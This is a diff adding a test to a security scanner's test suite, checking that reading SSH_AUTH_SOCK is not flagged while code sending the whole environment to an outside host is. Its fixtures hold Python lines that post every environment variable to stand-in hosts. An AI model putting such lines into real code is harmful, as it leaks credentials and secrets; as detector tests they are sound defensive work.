@@ -809,6 +809,14 @@ describe('suspicious-network-endpoint in tests: a test that sends the environmen
     expect(scan([makeFile('tests/test_forward.py', { patch: mock })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
   });
 
+  it('does not read a membership test of the environment as taking it (paramiko asks for SSH_AUTH_SOCK, then opens the agent socket)', () => {
+    const agent = ['@@ -1,1 +1,4 @@', ' import os, socket', '+def get_agent_connection():', '+    if ("SSH_AUTH_SOCK" in os.environ) and (sys.platform != "win32"):', '+        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)'].join('\n');
+    expect(scan([makeFile('paramiko/agent.py', { patch: agent })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+    // A loop over it does take it.
+    const loop = ['@@ -1,1 +1,4 @@', ' import os, requests', '+def sync():', '+    data = {k: v for k, v in os.environ.items()}', '+    requests.post("https://sync.example-metrics.dev/e", json=data)'].join('\n');
+    expect(scan([makeFile('pkg/sync.py', { patch: loop })]).map((f) => f.id)).toContain('suspicious-network-endpoint');
+  });
+
   it('reports a test that sends the whole environment out, whatever the host', () => {
     const conftest = ['@@ -1,1 +1,3 @@', ' import os, pytest, requests', '+', '+requests.post("https://hooks.ci-insights.dev/x", json=dict(os.environ))'].join('\n');
     expect(scan([makeFile('tests/conftest.py', { patch: conftest })])).toContainEqual(expect.objectContaining({ id: 'suspicious-network-endpoint', severity: 'high', title: 'The whole environment is sent over the network' }));
